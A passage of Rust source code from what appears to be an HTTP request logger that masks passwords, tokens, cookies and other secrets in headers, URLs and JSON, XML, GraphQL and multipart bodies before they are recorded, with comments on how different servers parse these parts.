                // A piece of a secret (the sweep only finds whole ones).
                self.token(matched)
            } else {
                self.userinfo_into(&swept, &mut out, &mut Secrets::default());
                self.shapes(out)
            }
        };
        out.truncate(cut_excerpt(&out, max));
        out
    }

    /// A header's value and whether it was masked as a whole.
    fn header_value(&self, name: &[u8], value: &[u8], secrets: &mut Secrets) -> (Vec<u8>, bool) {
        // `Referer`, and the original target a proxy passes on
        // (`X-Original-URI`, `X-Original-URL`, `X-Rewrite-URL`,
        // `X-Forwarded-Uri`, `X-Envoy-Original-Path`: review round 16): a
        // URL or target whose query is masked like the request's own.
        // Any other value that is a URL too (`Destination`,
        // `X-Callback-Url`, `X-Forwarded-Url`: round 17's lead): its
        // `?token=` is as secret as the target's.
        let carries_target = name.eq_ignore_ascii_case(b"referer")
            || value.trim_ascii_start().first() == Some(&b'/')
            || TARGET_HEADERS.iter().any(|h| name.eq_ignore_ascii_case(h))
            || crate::detect::decode::split_absolute_form(value.trim_ascii()).is_some();
        if carries_target && !self.header_masked(name) {
            let mut out = Vec::with_capacity(value.len());
            self.uri_into(value, &mut out, secrets);
            return (out, false);
        }
        if name.eq_ignore_ascii_case(b"sec-websocket-protocol") && !self.kept(name) {
            let mut out = Vec::with_capacity(value.len());
            self.subprotocols_into(value, &mut out, secrets);
            return (out, false);
        }
        if !self.header_masked(name) || value.is_empty() {
            // `Origin`, `Destination`, `Forwarded`, ... may carry a URL.
            let mut out = Vec::with_capacity(value.len());
            self.userinfo_into(value, &mut out, secrets);
            return (out, false);
        }
        let mut out = Vec::with_capacity(64);
        if name.eq_ignore_ascii_case(b"cookie") {
            self.cookies_into(value, &mut out, secrets);
        } else if name.eq_ignore_ascii_case(b"authorization")
            || name.eq_ignore_ascii_case(b"proxy-authorization")
        {
            // `Bearer abc`: keep the scheme (RFC 9110 §11.4), mask the credentials.
            // The scheme ends at any white space, as Apache's
            // `ap_getword_white` reads it (mod_auth_gssapi, mod_auth_digest:
            // `Negotiate<TAB><token>`; review round 34c).
            let white = |b: &u8| matches!(b, b' ' | b'\t' | 0x0b | 0x0c);
            let v = value.trim_ascii();
            match v.iter().position(white) {
                Some(i) => {
                    let scheme = v.get(..=i).unwrap_or_default();
                    let cred = v.get(i + 1..).unwrap_or_default();
                    let lead = cred.iter().take_while(|b| white(b)).count();
                    let cred = cred.get(lead..).unwrap_or_default().trim_ascii();
                    out.extend_from_slice(scheme);
                    if !cred.is_empty() {
                        self.mask_value(cred, cred, &mut out, secrets);
                    }
                }
                None => self.mask_value(v, v, &mut out, secrets),
            }
        } else {
            self.mask_value(value, value, &mut out, secrets);
        }
        (out, true)
    }

    /// `Sec-WebSocket-Protocol: a, b`: where browsers' WebSocket clients
    /// put the bearer token they cannot send in `Authorization` (review
    /// round 17). Kubernetes' `base64url.bearer.authorization.k8s.io.<token>`
    /// keeps its prefix; an entry after one named like a secret
    /// (`access_token, <token>`, `bearer, <token>`) is masked; protocol
    /// names are kept.
    fn subprotocols_into(&self, value: &[u8], out: &mut Vec<u8>, secrets: &mut Secrets) {
        let mut prev: &[u8] = b"";
        for (k, item) in value.split(|&b| b == b',').enumerate() {
            if k > 0 {
                out.push(b',');
            }
            let lead = item.len() - item.trim_ascii_start().len();
            out.extend_from_slice(item.get(..lead).unwrap_or_default());
            let entry = item.trim_ascii();
            let trail = item.get(lead + entry.len()..).unwrap_or_default();
            let prefix = entry
                .get(..K8S_BEARER_PROTOCOL.len())
                .filter(|p| p.eq_ignore_ascii_case(K8S_BEARER_PROTOCOL));
            match prefix {
                Some(p) if entry.len() > p.len() => {
                    out.extend_from_slice(p);
                    let token = entry.get(p.len()..).unwrap_or_default();
                    self.mask_value(token, token, out, secrets);
                    // Its `authorization` segment names no next entry.
                    prev = b"";
                    out.extend_from_slice(trail);
                    continue;
                }
                _ if !entry.is_empty()
                    && (prev.eq_ignore_ascii_case(b"bearer") || self.param_masked(prev)) =>
                {
                    self.mask_value(entry, entry, out, secrets);
                }
                _ => out.extend_from_slice(entry),
            }
            out.extend_from_slice(trail);
            prev = entry;
        }
    }

    /// `Cookie: a=1; b=2` (RFC 6265 §4.2.1): names kept, values masked.
    fn cookies_into(&self, value: &[u8], out: &mut Vec<u8>, secrets: &mut Secrets) {
        let mut first = true;
        for c in value.split(|&b| b == b';') {
            if !first {
                out.push(b';');
            }
            first = false;
            let lead = c.len() - c.trim_ascii_start().len();
            out.extend_from_slice(c.get(..lead).unwrap_or_default());
            let c = c.trim_ascii_start();
            let (name, val) = match memchr::memchr(b'=', c) {
                Some(i) => (c.get(..i).unwrap_or_default(), c.get(i + 1..)),
                None => (c, None),
            };
            match val {
                Some(v) => {
                    out.extend_from_slice(name);
                    out.push(b'=');
                    let clear = v.trim_ascii();
                    if clear.is_empty() || self.kept(name.trim_ascii()) {
                        out.extend_from_slice(v);
                    } else {
                        self.mask_value(clear, clear, out, secrets);
                    }
                }
                // A nameless cookie is all value.
                None if !c.trim_ascii().is_empty() => {
                    self.mask_value(c.trim_ascii(), c.trim_ascii(), out, secrets)
                }
                None => out.extend_from_slice(c),
            }
        }
    }

    /// A target (or a URL in a header): the password of a
    /// `scheme://user:password@host`, then parameters masked by name. In
    /// that order: a password holding `;` and `=` (RFC 3986 allows both in
    /// userinfo) read as path parameters first lost its `@`, and the rest
    /// of it stayed in clear.
    fn uri_into(&self, uri: &[u8], out: &mut Vec<u8>, secrets: &mut Secrets) {
        if memmem::find(uri, b"://").is_none() {
            self.target_into(uri, out, secrets);
            return;
        }
        let mut tmp = Vec::with_capacity(uri.len());
        self.userinfo_into(uri, &mut tmp, secrets);
        self.target_into(&tmp, out, secrets);
    }

    /// `text` with the password of every `scheme://user:password@host`
    /// (RFC 3986 §3.2.1) masked, and a userinfo without `:` (often a token)
    /// masked whole; each remembered for the sweep.
    fn userinfo_into(&self, text: &[u8], out: &mut Vec<u8>, secrets: &mut Secrets) {
        let mut last = 0usize;
        for p in memmem::find_iter(text, b"://") {
            // Right after a scheme (RFC 3986 §3.1), outside what was copied.
            let after_scheme = p
                .checked_sub(1)
                .and_then(|k| text.get(k))
                .is_some_and(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'-' | b'.'));
            if p < last || !after_scheme {
                continue;
            }
            let start = p + 3;
            let rest = text.get(start..).unwrap_or_default();
            let end = rest
                .iter()
                .position(|&b| authority_end(b))
                .unwrap_or(rest.len());
            let authority = rest.get(..end).unwrap_or_default();
            // The last `@` ends the userinfo, as browsers read it.
            let Some(at) = memchr::memrchr(b'@', authority) else {
                continue;
            };
            let info = authority.get(..at).unwrap_or_default();
            let keep = memchr::memchr(b':', info).map_or(0, |c| c + 1);
            let secret = info.get(keep..).unwrap_or_default();
            if secret.is_empty() || secret.starts_with(TOKEN_PREFIX) {
                continue;
            }
            out.extend_from_slice(text.get(last..start + keep).unwrap_or_default());
            let mut clear = Vec::with_capacity(secret.len());
            percent_decode(secret, false, &mut clear);
            self.mask_value(&clear, secret, out, secrets);
            last = start + at;
        }
        out.extend_from_slice(text.get(last..).unwrap_or_default());
    }

    /// A target: `;name=value` in the path and `name=value` in the query
    /// masked by name; the fragment as sent.
    fn target_into(&self, uri: &[u8], out: &mut Vec<u8>, secrets: &mut Secrets) {
        let (path, query) = match memchr::memchr(b'?', uri) {
            Some(i) => (uri.get(..i).unwrap_or_default(), uri.get(i..)),
            None => (uri, None),
        };
        // Path parameters (`/a;jsessionid=XYZ/b`).
        for (i, seg) in path.split(|&b| b == b'/').enumerate() {
            if i > 0 {
                out.push(b'/');
            }
            let mut parts = seg.split(|&b| b == b';');
            let first = parts.next().unwrap_or_default();
            if !self.cookieless_into(first, out, secrets) {
                out.extend_from_slice(first);
            }
            for p in parts {
                out.push(b';');
                self.pairs_into(p, b';', false, out, secrets);
            }
        }
        if let Some(q) = query {
            let q = q.get(1..).unwrap_or_default();
            out.push(b'?');
            // A `#` is no fragment in a request target: Go's
            // `ParseRequestURI` and PHP behind nginx keep it in the query,
            // so `?a=1#&password=x` has a password parameter (so does
            // detection since round 15).
            // `;` separates arguments too for Rack 2, Rails' QueryParser
            // (7.x), CGI.pm and Python before 3.9.2.
            let code = oauth_code_context(q);
            let mut first = true;
            for piece in q.split(|&b| b == b'&') {
                if !first {
                    out.push(b'&');
                }
                first = false;
                self.amp_pair_into(piece, code, out, secrets);
            }
        }
    }

    /// ASP.NET's cookieless session state and forms tickets ride in a path
    /// segment, `(S(<session id>))`, `(A(<anonymous id>)F(<ticket>))`:
    /// each value masked. False (nothing written) for any other segment.
    fn cookieless_into(&self, seg: &[u8], out: &mut Vec<u8>, secrets: &mut Secrets) -> bool {
        let Some(inner) = seg.strip_prefix(b"(").and_then(|s| s.strip_suffix(b")")) else {
            return false;
        };
        // Letter, `(`, value without parentheses, `)`; again and again.
        let mut items = Vec::new();
        let mut rest = inner;
        while !rest.is_empty() {
            let (Some(&letter), Some(b'(')) = (rest.first(), rest.get(1)) else {
                return false;
            };
            let Some(close) = memchr::memchr(b')', rest) else {
                return false;
            };
            let value = rest.get(2..close).unwrap_or_default();
            if !letter.is_ascii_uppercase() || value.is_empty() || value.contains(&b'(') {
                return false;
            }
            items.push((letter, value));
            rest = rest.get(close + 1..).unwrap_or_default();
        }
        if items.is_empty() {
            return false;
        }
        out.push(b'(');
        for (letter, value) in items {
            out.extend_from_slice(&[letter, b'(']);
            self.mask_value(value, value, out, secrets);
            out.push(b')');
        }
        out.push(b')');
        true
    }

    /// `a=1&b=2` data: values of masked names replaced, everything else
    /// (separators, empty values, odd pieces) copied. Multiple `=` belong to
    /// the value. `code` masks a parameter named `code` too (see
    /// [`oauth_code_context`]).
    fn pairs_into(
        &self,
        data: &[u8],
        sep: u8,
        code: bool,
        out: &mut Vec<u8>,
        secrets: &mut Secrets,
    ) {
        let mut first = true;
        for pair in data.split(|&b| b == sep) {
            if !first {
                out.push(sep);
            }
            first = false;
            self.pair_into(pair, code, out, secrets);
        }
    }

    /// One `&`-separated piece of a query or form, read both ways a server
    /// may: PHP, Node, Go and Java take `;` as part of the value (a masked
    /// name masks it whole, `;` included), while Rack 2, CGI.pm and Python
    /// before 3.9.2 split there too (`user=x;password=…`: each `;` piece is
    /// masked by its own name).
    fn amp_pair_into(&self, piece: &[u8], code: bool, out: &mut Vec<u8>, secrets: &mut Secrets) {
        let name = memchr::memchr(b'=', piece).and_then(|i| piece.get(..i));
        let whole = name.is_some_and(|n| self.pair_masked(n, code));
        if whole {
            self.pair_into(piece, code, out, secrets);
        } else {
            self.pairs_into(piece, b';', code, out, secrets);
        }
    }

    /// Is the value of the query or form parameter `name` masked: a masked
    /// name, or `code` in an OAuth exchange (`code`, see
    /// [`oauth_code_context`])?
    fn pair_masked(&self, name: &[u8], code: bool) -> bool {
        self.param_masked(name)
            || (code
                && self.enabled
                && decode_name(name).eq_ignore_ascii_case(b"code")
                && !self.kept(name))
    }

    fn pair_into(&self, pair: &[u8], code: bool, out: &mut Vec<u8>, secrets: &mut Secrets) {
        match memchr::memchr(b'=', pair) {
            Some(i) => {
                let name = pair.get(..i).unwrap_or_default();
                let raw = pair.get(i + 1..).unwrap_or_default();
                out.extend_from_slice(name);
                out.push(b'=');
                if !raw.is_empty() && self.pair_masked(name, code) {
                    let mut clear = Vec::with_capacity(raw.len());
                    percent_decode(raw, true, &mut clear);
                    self.mask_value(&clear, raw, out, secrets);
                } else if !self.json_value_into(raw, out, secrets) {
                    out.extend_from_slice(raw);
                }
            }
            None => out.extend_from_slice(pair),
        }
    }

    /// A form or query value that is JSON (`payload=` of Slack's
    /// interactive actions with its `"token"`, a GraphQL GET's
    /// `variables=`: review round 21): masked by key as a JSON body, then
    /// percent-encoded again when it was sent encoded. False (nothing
    /// written) when the value is not JSON or holds nothing masked.
    fn json_value_into(&self, raw: &[u8], out: &mut Vec<u8>, secrets: &mut Secrets) -> bool {
        let lead = raw
            .iter()
            .position(|b| !matches!(b, b' ' | b'+' | b'\t'))
            .unwrap_or(raw.len());
        let head = raw.get(lead..).unwrap_or_default();
        let opens = |p: &[u8]| {
            head.get(..p.len())
                .is_some_and(|h| h.eq_ignore_ascii_case(p))
        };
        if !(opens(b"{") || opens(b"[") || opens(b"%7B") || opens(b"%5B")) {
            return false;
        }
        let mut clear = Vec::with_capacity(raw.len());
        percent_decode(raw, true, &mut clear);
        let mut masked = Vec::with_capacity(clear.len());
        self.json_into(&clear, usize::MAX, &mut masked, secrets);
        if masked == clear {
            return false;
        }
        if clear == raw {
            out.extend_from_slice(&masked);
            return true;
        }
        const HEX: &[u8; 16] = b"0123456789ABCDEF";
        for &b in &masked {
            if b.is_ascii_alphanumeric() || b"-._~:,[]{}".contains(&b) {
                out.push(b);
            } else {
                out.push(b'%');
                out.push(HEX.get(usize::from(b >> 4)).copied().unwrap_or(b'0'));
                out.push(HEX.get(usize::from(b & 15)).copied().unwrap_or(b'0'));
            }
        }
        true
    }

    /// The body, masked by its type, up to about `limit` bytes of output.
    fn body_into(
        &self,
        content_type: &[u8],
        body: &[u8],
        limit: usize,
        out: &mut Vec<u8>,
        secrets: &mut Secrets,
    ) {
        let ct = content_type.trim_ascii();
        let mime = media_type(ct);
        // What the body starts with, past a UTF-8 byte order mark (which
        // JSON parsers skip: review round 15) and whitespace.
        let first = crate::detect::body::skip_bom(body)
            .trim_ascii_start()
            .first()
            .copied();
        let is_json = json_media_type(mime) || matches!(first, Some(b'{' | b'['));
        // Every multipart type is split into parts, not only form-data: a
        // SOAP request sent as MTOM (`multipart/related`) carries its
        // envelope in a part (review round 26).
        let multipart = mime
            .get(..10)
            .is_some_and(|m| m.eq_ignore_ascii_case(b"multipart/"));
        if multipart {
            // PHP finds its boundary its own way: RFC 1867's own example
            // writes `multipart/form-data, boundary=AaB03x` (no `;`
            // parameter), and `xboundary=` hides another one (review 33c).
            // Where the two readings differ, the parts of both are masked.
            let declared = header_param(ct, b"boundary").filter(|b| !b.is_empty());
            let php = php_boundary(ct).filter(|b| !b.is_empty() && Some(*b) != declared);
            match (declared, php) {
                (Some(a), Some(b)) => {
                    let mut first = Vec::with_capacity(body.len());
                    self.multipart_into(a, body, limit, &mut first, secrets);
                    self.multipart_into(b, &first, limit, out, secrets);
                    return;
                }
                (Some(b), None) | (None, Some(b)) => {
                    self.multipart_into(b, body, limit, out, secrets);
                    return;
                }
                (None, None) => {}
            }
        }
        // A GraphQL document sent as the body itself (`application/graphql`,
        // read by express-graphql, graphql-go's handler, GraphQL Yoga): its
        // inline arguments, as in a JSON `"query"` (review 30b).
        if mime.eq_ignore_ascii_case(b"application/graphql") {
            // Then as a form, for a form under that type.
            let body = body.get(..limit.min(body.len())).unwrap_or_default();
            let mut document = Vec::with_capacity(body.len());
            self.graphql_arguments_into(body, false, &mut document, secrets);
            self.form_into(&document, limit, out, secrets);
            return;
        }
        let is_xml = xml_media_type(mime) || first == Some(b'<');
        if is_json || is_xml {
            let mut typed = Vec::new();
            // What the body starts with wins over the declared type: XML
            // sent as `application/json` is read as XML by the endpoints
            // that ignore the type (review round 26).
            if is_json && first != Some(b'<') {
                self.json_into(body, limit, &mut typed, secrets);
            } else {
                self.xml_into(body, limit, &mut typed, secrets);
            }
            if matches!(first, Some(b'{' | b'[' | b'<')) {
                out.extend_from_slice(&typed);
            } else {
                // Declared JSON or XML that does not start like it: often a
                // form under the wrong type (jQuery's `contentType:
                // 'application/json'` with an object `data`; review round
                // 24), which its pairs give away.
                self.form_into(&typed, limit, out, secrets);
            }
            return;
        }
        self.form_into(body, limit, out, secrets);
    }

    /// Form data, and anything else scanned as if it were (over-masking an
    /// odd body is safer than leaking a `password=` in it).
    fn form_into(&self, body: &[u8], limit: usize, out: &mut Vec<u8>, secrets: &mut Secrets) {
        let body = body.get(..limit.min(body.len())).unwrap_or_default();
        let code = oauth_code_context(body);
        let mut first = true;
        for pair in body.split(|&b| b == b'&') {
            if !first {
                out.push(b'&');
            }
            first = false;
            self.amp_pair_into(pair, code, out, secrets);
            if out.len() >= limit {
                break;
            }
        }
    }

    /// XML (SOAP, XML-RPC, plain documents), scanned tolerantly: the text
    /// inside an element whose local name (namespace prefix dropped) is a
    /// masked parameter name, in child elements and CDATA too, and the
    /// values of such attributes become masks; markup is copied. Entities
    /// are not decoded (the mask is of the text as sent).
    fn xml_into(&self, body: &[u8], limit: usize, out: &mut Vec<u8>, secrets: &mut Secrets) {
        let body = body.get(..limit.min(body.len())).unwrap_or_default();
        // Depth inside the outermost masked element (0: not inside one).
        let mut masked_depth = 0usize;
        // XML-RPC struct members (`<member><name>password</name><value>…`):
        // inside a `<name>`, and whether the last one named a secret (review
        // round 16).
        let mut in_name = false;
        let mut pending_value = false;
        let mut i = 0;
        while i < body.len() {
            let rest = body.get(i..).unwrap_or_default();
            let lt = memchr::memchr(b'<', rest).map_or(body.len(), |o| i + o);
            let text = body.get(i..lt).unwrap_or_default();
            if in_name && masked_depth == 0 && self.param_masked(text.trim_ascii()) {
                pending_value = true;
            }
            if masked_depth > 0 && !text.trim_ascii().is_empty() {
                self.mask_value(text, text, out, secrets);
            } else {
                out.extend_from_slice(text);
            }
            if lt >= body.len() {
                break;
            }
            let tail = body.get(lt..).unwrap_or_default();
            if tail.starts_with(b"<![CDATA[") {
                let end = memmem::find(tail, b"]]>").map_or(body.len(), |o| lt + o);
                let content = body.get(lt + 9..end).unwrap_or_default();
                out.extend_from_slice(b"<![CDATA[");
                if masked_depth > 0 && !content.is_empty() {
                    self.mask_value(content, content, out, secrets);
                } else {
                    out.extend_from_slice(content);
                }
                out.extend_from_slice(body.get(end..(end + 3).min(body.len())).unwrap_or_default());
                i = end + 3;
                continue;
            }
            let gt = lt + xml_tag_len(tail);
            let tag = body.get(lt..gt).unwrap_or_default();
            i = gt;
            if tag.starts_with(b"</") {
                in_name = false;
                let closing = tag
                    .get(2..tag.len().saturating_sub(1))
                    .unwrap_or_default()
                    .trim_ascii();
                if xml_local_name(closing).eq_ignore_ascii_case(b"member") {
                    pending_value = false;
                }
                masked_depth = masked_depth.saturating_sub(1);
                out.extend_from_slice(tag);
                continue;
            }
            if tag.starts_with(b"<?") || tag.starts_with(b"<!") {
                out.extend_from_slice(tag);
                continue;
            }
            let name_end = tag
                .iter()
                .skip(1)
                .position(|&b| b.is_ascii_whitespace() || b == b'/' || b == b'>')
                .map_or(tag.len(), |p| p + 1);
            let name = tag.get(1..name_end).unwrap_or_default();
            if !tag.ends_with(b"/>") {
                let local = xml_local_name(name);
                in_name = masked_depth == 0 && local.eq_ignore_ascii_case(b"name");
                if masked_depth > 0 {
                    masked_depth += 1;
                } else if pending_value && local.eq_ignore_ascii_case(b"value") {
                    masked_depth = 1;
                    pending_value = false;
                } else if !name.is_empty() && self.param_masked(local) {
                    masked_depth = 1;
                }
            }
            out.extend_from_slice(tag.get(..name_end).unwrap_or_default());
            self.xml_attributes_into(tag.get(name_end..).unwrap_or_default(), out, secrets);
            if out.len() >= limit {
                break;
            }
        }
    }

    /// The attributes part of a start tag (`a="1" password='x'>`): values
    /// of masked names masked, the rest copied.
    fn xml_attributes_into(&self, attrs: &[u8], out: &mut Vec<u8>, secrets: &mut Secrets) {
        let mut i = 0;
        while i < attrs.len() {
            let rest = attrs.get(i..).unwrap_or_default();
            let Some(eq) = memchr::memchr(b'=', rest).map(|o| i + o) else {
                out.extend_from_slice(rest);
                return;
            };
            let before = attrs.get(i..eq).unwrap_or_default();
            let name = before.trim_ascii();
            let name = name
                .iter()
                .rposition(u8::is_ascii_whitespace)
                .map_or(name, |p| name.get(p + 1..).unwrap_or_default());
            let after = attrs.get(eq + 1..).unwrap_or_default();
            let ws = after.len() - after.trim_ascii_start().len();
            let quote_at = eq + 1 + ws;
            let quote = attrs.get(quote_at).copied();
            let Some(q) = quote.filter(|q| *q == b'"' || *q == b'\'') else {
                out.extend_from_slice(attrs.get(i..quote_at).unwrap_or_default());
                i = quote_at;
                continue;
            };
            let value_start = quote_at + 1;
            let value_end = attrs
                .get(value_start..)
                .and_then(|v| memchr::memchr(q, v))
                .map_or(attrs.len(), |o| value_start + o);
            let value = attrs.get(value_start..value_end).unwrap_or_default();
            out.extend_from_slice(attrs.get(i..value_start).unwrap_or_default());
            if !value.is_empty() && self.param_masked(xml_local_name(name)) {
                self.mask_value(value, value, out, secrets);
            } else {
                out.extend_from_slice(value);
            }
            i = value_end;
        }
    }

    /// The text of a JSON string (still escaped) that may hold a GraphQL
    /// document: the values of arguments and input fields whose names are
    /// masked (`password: \"x\"`, `pin: 1234`) become masks, everything
    /// else is copied. Variables (`$pw`) are left: their values are masked
    /// under `variables` by key. `in_json`: the document is the text of a
    /// JSON string (its quotes and backslashes escaped), else a raw
    /// `application/graphql` body.
    fn graphql_arguments_into(
        &self,
        text: &[u8],
        in_json: bool,
        out: &mut Vec<u8>,
        secrets: &mut Secrets,
    ) {
        let quote: &[u8] = if in_json { b"\\\"" } else { b"\"" };
        let is_name = |b: u8| b.is_ascii_alphanumeric() || b == b'_';
        let mut i = 0;
        while i < text.len() {
            let Some(&b) = text.get(i) else { break };
            if !(b.is_ascii_alphabetic() || b == b'_')
                || (i > 0 && text.get(i - 1).is_some_and(|&p| is_name(p)))
            {
                out.push(b);
                i += 1;
                continue;
            }
            let name_end = text
                .get(i..)
                .and_then(|t| t.iter().position(|&c| !is_name(c)))
                .map_or(text.len(), |p| i + p);
            let name = text.get(i..name_end).unwrap_or_default();
            out.extend_from_slice(name);
            i = name_end;
            // `name` ws `:` ws value
            let mut j = i;
            while text.get(j).is_some_and(|c| c.is_ascii_whitespace()) {
                j += 1;
            }
            if text.get(j) != Some(&b':') || !self.param_masked(name) {
                continue;
            }
            j += 1;
            while text.get(j).is_some_and(|c| c.is_ascii_whitespace()) {
                j += 1;
            }
            out.extend_from_slice(text.get(i..j).unwrap_or_default());
            i = j;
            let rest = text.get(i..).unwrap_or_default();
            if rest.starts_with(quote) {
                // A GraphQL string (its quotes escaped by JSON when in JSON),
                // or a block string (`"""…"""`, GraphQL §2.9.4), whose
                // content runs to the closing quote not escaped by a
                // GraphQL backslash: a password may hold `"` (review 30b).
                let block = quote.repeat(3);
                let opening = if rest.starts_with(&block) {
                    block.as_slice()
                } else {
                    quote
                };
                let inner = i + opening.len();
                let end = graphql_string_end(text, inner, opening, in_json);
                let value = text.get(inner..end).unwrap_or_default();
                out.extend_from_slice(opening);
                if !value.is_empty() {
                    self.mask_value(value, value, out, secrets);
                }
                out.extend_from_slice(
                    text.get(end..(end + opening.len()).min(text.len()))
                        .unwrap_or_default(),
                );
                i = end + opening.len();
            } else if rest
                .first()
                .is_some_and(|&c| c != b'$' && c != b'{' && c != b'[')
            {
                let end = rest
                    .iter()
                    .position(|&c| {
                        matches!(c, b',' | b')' | b'}' | b']') || c.is_ascii_whitespace()
                    })
                    .map_or(text.len(), |p| i + p);
                let value = text.get(i..end).unwrap_or_default();
                if !value.is_empty() {
                    self.mask_value(value, value, out, secrets);
                }
                i = end;
            }
        }
    }

    /// multipart/form-data (RFC 7578): content of parts with masked names
    /// replaced; headers and delimiters copied.
    fn multipart_into(
        &self,
        boundary: &[u8],
        body: &[u8],
        limit: usize,
        out: &mut Vec<u8>,
        secrets: &mut Secrets,
    ) {
        let mut delim = Vec::with_capacity(boundary.len() + 2);
        delim.extend_from_slice(b"--");
        delim.extend_from_slice(boundary);
        let finder = memmem::Finder::new(&delim);
        let mut pos = match finder.find(body) {
            Some(p) => p,
            None => {
                // No part at all: not the multipart its type says (a form
                // under the wrong type, review round 24).
                self.form_into(body, limit, out, secrets);
                return;
            }
        };
        out.extend_from_slice(body.get(..pos).unwrap_or_default());
        while pos < body.len() && out.len() < limit {
            let after = pos + delim.len();
            let next = body
                .get(after..)
                .and_then(|rest| finder.find(rest))
                .map_or(body.len(), |n| after + n);
            let part = body.get(pos..next).unwrap_or_default();
            self.part_into(part, delim.len(), out, secrets);
            pos = next;
        }
    }

    /// One part, from its delimiter to the next one.
    fn part_into(&self, part: &[u8], delim_len: usize, out: &mut Vec<u8>, secrets: &mut Secrets) {
        let head_end = memmem::find(part, b"\r\n\r\n")
            .map(|i| i + 4)
            .or_else(|| memmem::find(part, b"\n\n").map(|i| i + 2));
        let Some(head_end) = head_end.filter(|&h| h >= delim_len) else {
            out.extend_from_slice(part);
            return;
        };
        let head = part.get(..head_end).unwrap_or_default();
        let content = part.get(head_end..).unwrap_or_default();
        let mut names: Vec<Vec<u8>> = Vec::new();
        let mut part_type: &[u8] = b"";
        for line in head.split(|&b| b == b'\n') {
            let line = line.trim_ascii();
            if let Some(colon) = memchr::memchr(b':', line) {
                let hname = line.get(..colon).unwrap_or_default().trim_ascii();
                let hval = line.get(colon + 1..).unwrap_or_default();
                if hname.eq_ignore_ascii_case(b"content-disposition") {
                    names = disposition_names(hval);
                } else if hname.eq_ignore_ascii_case(b"content-type") {
                    part_type = media_type(hval.trim_ascii());
                }
            }
        }
        // The line break before the next delimiter belongs to it.
        let (value, tail) = match content.strip_suffix(b"\r\n") {
            Some(v) => (v, &b"\r\n"[..]),
            None => match content.strip_suffix(b"\n") {
                Some(v) => (v, &b"\n"[..]),
                None => (content, &b""[..]),
            },
        };
        out.extend_from_slice(head);
        // A JSON part (Spring's `@RequestPart`, an upload's metadata) is
        // read as JSON by the application: masked by its keys too.
        let json = json_media_type(part_type);
        // An XML part: the SOAP envelope of an MTOM request
        // (`application/xop+xml`), an XML upload's metadata.
        let xml = xml_media_type(part_type);
        if !value.is_empty() && names.iter().any(|n| self.param_masked(n)) {
            self.mask_value(value, value, out, secrets);
        } else if json {
            self.json_into(value, usize::MAX, out, secrets);
        } else if xml {
            self.xml_into(value, usize::MAX, out, secrets);
        } else {
            out.extend_from_slice(value);
        }
        out.extend_from_slice(tail);
    }

    /// JSON, scanned tolerantly (a cut or broken document is fine): string
    /// and number values under masked keys, and everything inside them,
    /// become `"[masked:…]"`.
    fn json_into(&self, body: &[u8], limit: usize, out: &mut Vec<u8>, secrets: &mut Secrets) {
        // Per open container: (is object, masked, expecting a key, key masked).
        struct Level {
            object: bool,
            masked: bool,
            want_key: bool,
            key_masked: bool,
            /// Where the object opens: at a `"value"` key, its `"name"`/`"key"`
            /// member is looked for from here (review round 16).
            open: usize,
        }
        let mut stack: Vec<Level> = Vec::new();
        let mut overflow = 0usize;
        let mut i = 0usize;
        while let Some(&b) = body.get(i) {
            if out.len() >= limit {
                break;
            }
            // Is a value starting here masked?
            let value_masked = overflow > 0
                || stack
                    .last()
                    .is_some_and(|l| l.masked || (l.object && l.key_masked));
            match b {
                b'{' | b'[' => {
                    if stack.len() >= JSON_MAX_DEPTH {
                        overflow += 1;
                    } else {
                        stack.push(Level {
                            object: b == b'{',
                            masked: value_masked,
                            want_key: b == b'{',
                            key_masked: false,
                            open: i,
                        });
                    }
                    out.push(b);
                    i += 1;
                }
                b'}' | b']' => {
                    if overflow > 0 {
                        overflow -= 1;
                    } else {
                        stack.pop();
                    }
                    out.push(b);
                    i += 1;
                }
                b',' => {
                    if let Some(l) = stack.last_mut() {
                        if l.object && overflow == 0 {
                            l.want_key = true;
                            l.key_masked = false;
                        }
                    }
                    out.push(b);
                    i += 1;
                }
                b'"' => {
                    let end = json_string_end(body, i + 1);
                    let content = body.get(i + 1..end).unwrap_or_default();
                    let close = end + usize::from(body.get(end) == Some(&b'"'));
                    let is_key = overflow == 0 && stack.last().is_some_and(|l| l.want_key);
                    if is_key {
                        // A masked object masks its values anyway.
                        let masked = self.param_masked(content)
                            || (content.eq_ignore_ascii_case(b"value")
                                && stack.last().is_some_and(|l| {
                                    !l.masked && self.pair_names_secret(body, l.open)
                                }));
                        if let Some(l) = stack.last_mut() {
                            l.want_key = false;
                            l.key_masked = masked;
                        }
                        out.extend_from_slice(body.get(i..close).unwrap_or_default());
                    } else if value_masked && !content.is_empty() {
                        out.push(b'"');
                        self.mask_value(content, content, out, secrets);
                        out.push(b'"');
                    } else if self.json_string_json_into(content, out, secrets) {
                        // A JSON document inside the string (GraphQL
                        // `"variables":"{\"password\":…}"`): masked by key.
                    } else if memchr::memchr(b'(', content).is_some() {
                        // Perhaps a GraphQL document (`"query": "mutation {
                        // login(password: \"…\") }"`): its inline arguments.
                        out.push(b'"');
                        self.graphql_arguments_into(content, true, out, secrets);
                        out.extend_from_slice(body.get(end..close).unwrap_or_default());
                    } else {
                        out.extend_from_slice(body.get(i..close).unwrap_or_default());
                    }
                    i = close.max(i + 1);
                }
                b'-' | b'0'..=b'9' => {
                    let mut end = i;
                    while body
                        .get(end)
                        .is_some_and(|c| c.is_ascii_digit() || b"+-.eE".contains(c))
                    {
                        end += 1;
                    }
                    let num = body.get(i..end).unwrap_or_default();
                    if value_masked {
                        out.push(b'"');
                        self.mask_value(num, num, out, secrets);
                        out.push(b'"');
                    } else {
                        out.extend_from_slice(num);
                    }
                    i = end.max(i + 1);
                }
                _ => {
                    out.push(b);
                    i += 1;
                }
            }
        }
    }

    /// A JSON string value (its content as sent, still escaped) that holds
    /// a JSON document: express-graphql and graphql-java's servlets
    /// `JSON.parse` a `variables` sent as a string, and APIs wrap a
    /// stringified payload (review 33c). Written as the string, quotes
    /// included, with that document masked by key; false (nothing written)
    /// when it is no such document or holds nothing masked.
    fn json_string_json_into(
        &self,
        content: &[u8],
        out: &mut Vec<u8>,
        secrets: &mut Secrets,
    ) -> bool {
        if !matches!(content.trim_ascii_start().first(), Some(b'{' | b'[')) {
            return false;
        }
        let mut quoted = Vec::with_capacity(content.len() + 2);
        quoted.push(b'"');
        quoted.extend_from_slice(content);
        quoted.push(b'"');
        let Ok(inner) = serde_json::from_slice::<String>(&quoted) else {
            return false;
        };
        let mut masked = Vec::with_capacity(inner.len());
        self.json_into(inner.as_bytes(), usize::MAX, &mut masked, secrets);
        if masked == inner.as_bytes() {
            return false;
        }
